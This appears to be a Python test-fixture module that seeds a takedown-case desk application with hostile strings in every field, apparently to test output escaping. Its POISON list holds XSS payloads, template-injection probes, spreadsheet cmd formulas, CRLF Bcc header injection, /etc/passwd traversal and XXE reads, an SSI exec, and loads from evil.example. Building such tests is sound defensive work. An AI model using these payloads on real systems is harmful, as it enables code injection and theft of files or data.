"""A desk on which every word that strangers, recipients or officers may write is poison: for replays everywhere."""

from dataclasses import replace
from email.message import EmailMessage
from pathlib import Path
from typing import Any

from sqlmodel import select

from storage.models import (
    Appeal,
    Assessment,
    Case,
    CaseEvent,
    CaseIndicator,
    DomainRecord,
    LearntContact,
    Observation,
    OutboxMail,
    SavedView,
    Staff,
    Verification,
    Withdrawal,
)
from storage.vault import Vault, add_key
from takedown.appeals import receive_appeal
from takedown.delivery.replies import take_reply
from takedown.drafting import draft_notices
from takedown.notices import mark_sent, release_notice
from takedown.records.gate import Asked, Attachment, Urgency
from takedown.records.requests import take_request
from takedown.records.subjects import read_subjects
from takedown.web.desk import Desk
from tests.takedown.desk import AN, CHI, HEAD, NOW, open_case, proven_case
from tests.takedown.web.conftest import GIANG

# what a browser, a terminal, a spreadsheet, a mail server, a template or a reader of pages might obey
POISON = (
    "<script>document.title='owned'</script>",
    "<img src=x onerror=document.title='owned'>",
    "'\"><svg/onload=document.title='owned'>",
    "</title></textarea></pre><iframe src=//evil.example></iframe>",
    "<style>@import '//evil.example/x.css'</style><link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><button formaction=//evil.example>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
    "{{7*191}} {% for x in y %} ${7*191} #{7*191} <%= 7*191 %>",
    "javascript:document.title='owned'",
    "data:text/html,<script>alert(1)</script>",
    "=cmd|' /C calc'!A0",
    '+HYPERLINK("http://evil.example";"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "x\r\nBcc: evil@evil.example\r\n\r\n<b>body</b>",
    "\u202egnp.exe\u202c \u2066x\u2069 \u200b\ufeff\u00ad",
    "\x1b[31mred\x1b]0;owned\x07\x9b2J",
    "\x00\x08\x0b\x7f\x85\ufffe\ufdd0",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dA",
    "%s%n%p %0d%0aSet-Cookie:a=b ../../../etc/passwd \\\\evil\\share",
    "<!--#exec cmd='id'--><?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "\U0001f469\U0001f3ff\u200d\U0001f9b1 ﷽ ẹ̃ đ\u031b " + "w" * 300,
)
ALL = " | ".join(POISON)
FILE_NAME = 'a\u202egnp.exe=cmd\r\nX: y<img src=x onerror=1>".pdf'


def words(limit: int, place: int = 0) -> str:
    """As much poison as fits a column, beginning elsewhere for each ``place``."""
    place %= len(POISON)
    return " ".join((*POISON[place:], *POISON[:place]))[:limit]


def signals(extra: tuple[str, ...] = ()) -> list[dict[str, Any]]:
    """A reason a string: message and excerpt say it."""
    return [
        {
            "rule": f"x.{place}",
            "family": words(30, place),
            "points": 2.0 - place / 100,
            "excerpt": text,
            "message_vi": f"«{text[:150]}» {text}",
            "message_en": text,
            "vantage": words(30, place),
            "page_url": text,
        }
        for place, text in enumerate((*POISON, *extra))
    ]


def poison_case(desk: Desk, extra: tuple[str, ...] = ()) -> int:
    """A proven case whose every stored word is poison. ``extra``: further strings, as excerpts."""
    number = proven_case(desk.engine, desk.store)
    with desk.writing() as session:
        case = session.get_one(Case, number)
        case.title, case.category, case.assignee = words(500), words(32), words(64)
        seen = session.exec(select(Observation)).one()
        seen.title, seen.reason = words(500, 3), words(1000, 4)
        seen.final_url = "https://shop-a.example/?q=" + "'\"><svg/onload=1>\u202e{{7*191}}=cmd|&#x3c;"
        seen.recipe = {"vantage": {"user_agent": ALL, "referrer": ALL, "locale": words(20)}}
        assessment = session.get_one(Assessment, case.assessment_id)
        assessment.signals, assessment.capped, assessment.deciding_url = signals(extra), words(500, 5), words(900, 6)
        different = {"first": words(20), "second": words(20, 2), "similarity": 0.2, "only_first": list(POISON)}
        assessment.differences = [{**different, "first_final_url": ALL, "second_final_url": "x", "only_second": [ALL]}]
        record = session.exec(select(DomainRecord)).one()
        said = {"service": ALL, "source": ALL, "field": words(50)}
        record.facts = {
            **record.facts, "registrar": ALL, "registrant": ALL, "statuses": list(POISON), "nameservers": [ALL],
            "networks": [{"address": "203.0.113.7", "asn": 13335, "holder": ALL, "country": words(10)}],
            "statements": [{**said, "value": "a"}, {**said, "value": ALL}],
        }  # fmt: skip
        record.lookups = [{"service": ALL, "state": words(20), "source": ALL, "reason": ALL}]
        for place, text in enumerate(POISON):
            session.add(
                CaseIndicator(case_id=number, kind=f"x{place}", value=text[:255], note=text[:300], first_at=NOW)
            )
        session.add(
            CaseEvent(case_id=number, at=NOW, kind=words(32), actor=words(100), detail={ALL: ALL, "reason": ALL})
        )
        session.add(
            Verification(case_id=number, url=case.url, at=NOW, verdict=words(32), acted=words(32), reason=ALL[:1000])
        )
        session.add_all((assessment, record, case, seen))
    return number


def poison_desk(desk: Desk, folder: Path, extra: tuple[str, ...] = ()) -> Desk:
    """The case told, answered, objected to and withdrawn; people, views, contacts, settings and requests as bad."""
    number = poison_case(desk, extra)
    other = open_case(desk.engine, "khac.example")
    with desk.writing() as session:
        session.get_one(Case, other).title = words(500, 7)
        (notice,) = draft_notices(
            session, desk.store, number, head=HEAD, actor=AN, now=NOW, recipients=["pa05_hcm"], reason=ALL
        )
        release_notice(session, notice.id or 0, actor=CHI, now=NOW)
        mark_sent(session, notice.id or 0, proof=words(400), actor=AN, now=NOW)
        notice.recipient_name, notice.why, notice.due_at = words(300), words(2000), NOW
        draft_notices(session, desk.store, number, head=HEAD, actor=AN, now=NOW, recipients=["a05"], reason=ALL)
        mail = EmailMessage()
        mail["From"], mail["Subject"] = f"{POISON[0]} <a@b.example>", f"{notice.token} {POISON[7]}"
        mail.set_content(f"{notice.token}\n{ALL}".replace("\x00", "").encode("utf-8", "replace").decode())
        mail.add_attachment(b"MZ", maintype="application", subtype="x-dosexec", filename="<img src=x onerror=1>.exe")
        take_reply(session, desk.store, mail.as_bytes(), now=NOW)
        mail.replace_header("Subject", f"{POISON[1]} {POISON[7]}")  # the same without its code belongs to nothing
        body = mail.get_body(("plain",))
        assert isinstance(body, EmailMessage)
        body.set_content(ALL.replace("\x00", "").encode("utf-8", "replace").decode())
        take_reply(session, desk.store, mail.as_bytes(), now=NOW)
        receive_appeal(
            session, url="https://shop-a.example/", text=ALL, name=words(200), contact=words(200, 4), now=NOW
        )
        session.add(Withdrawal(case_id=number, ordered_by=words(100), reason=words(2000), at=NOW))
        session.add(
            LearntContact(
                subject_kind="host", subject=words(255), channel=words(32), value=words(500), source=words(1000),
                learnt_at=NOW, state="quarantined",
            )
        )  # fmt: skip
        for name in ("an", "chi"):
            session.add(SavedView(staff_name=name, name=words(60), query="q=%22%3E%3Cscript%3E", created_at=NOW))
        session.exec(select(Staff).where(Staff.name == "chi")).one().full_name = words(200)
        session.add(
            OutboxMail(
                notice_id=notice.id or 0, key="x", recipient_id="x", sender="a@b.example", to_address=words(300),
                subject=words(300), message_digest="00" * 32, message_id="<x>", state="unknown", reason=words(1000),
                not_before=NOW, created_at=NOW,
            )
        )  # fmt: skip
        session.get_one(Appeal, 1).host = words(255)
    add_key(folder / "keys")
    asked = Asked(
        document_number=words(100), agency=words(300), unit=words(300, 3), officer=words(200, 5), contact=words(200),
        case_number=words(100), urgency=Urgency.HOURS_24, purpose=ALL, subjects=read_subjects(f"mau-thu.vn\n{ALL}"),
        pasted=f"mau-thu.vn\n{ALL}", received_at=NOW,
    )  # fmt: skip
    order = Attachment.read(FILE_NAME, b"%PDF-1.7 order")
    with desk.writing() as session:
        vault = Vault.load(folder / "keys")
        take_request(session, desk.store, vault, asked, order=order, actor=GIANG, now=NOW)
    settings = ((words(60), ALL, words(40)),)
    return replace(desk, records_key_file=str(folder / "keys"), settings=settings)
